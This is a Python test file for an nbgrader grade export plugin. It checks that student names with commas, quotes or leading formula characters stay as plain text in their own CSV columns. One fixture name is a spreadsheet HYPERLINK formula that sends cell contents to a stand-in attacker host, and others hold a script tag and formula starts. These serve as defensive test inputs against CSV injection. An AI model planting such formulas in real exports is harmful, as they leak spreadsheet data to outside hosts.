"""grades.csv with names an LMS sent: columns never shift, and no field is a formula (issue #30, exports)."""

from __future__ import annotations

import csv
import os
import sys
from pathlib import Path

from nbgrader.api import Gradebook

from grader.tools.csv_export import COLUMNS, SafeCsvExportPlugin, as_text


def test_names_with_commas_quotes_and_formulas_stay_text_in_their_columns(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    hostile = {"first_name": '=HYPERLINK("http://evil.example?"&A1,"x")', "last_name": 'O"Brien, <script>',
               "email": "@SUM(1+1)@x.example"}
    url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    with Gradebook(url) as gb:
        gb.add_assignment("a1")
        gb.add_student("s1", **hostile)
        gb.add_student("s2", first_name="-2+3", last_name="Plain", email=None)
        plugin = SafeCsvExportPlugin(to=str(tmp_path / "grades.csv"))
        plugin.export(gb)
    with open(tmp_path / "grades.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == COLUMNS
    by_id = {r["student_id"]: r for r in rows}
    assert by_id["s1"]["first_name"] == "'" + hostile["first_name"]
    assert by_id["s1"]["last_name"] == hostile["last_name"]  # a comma and a quote, kept in their column
    assert by_id["s1"]["email"] == "'" + hostile["email"]
    assert by_id["s2"]["first_name"] == "'-2+3" and by_id["s2"]["email"] == ""
    assert by_id["s1"]["score"] == "0.0" and by_id["s1"]["max_score"] == "0.0"  # numbers stay numbers


def test_only_a_formula_start_gets_the_apostrophe():
    assert [as_text(v) for v in ("=1", "+1", "-1", "@x", "\t=1", "Ada", "ada@x", "")] == [
        "'=1", "'+1", "'-1", "'@x", "'\t=1", "Ada", "ada@x", ""]
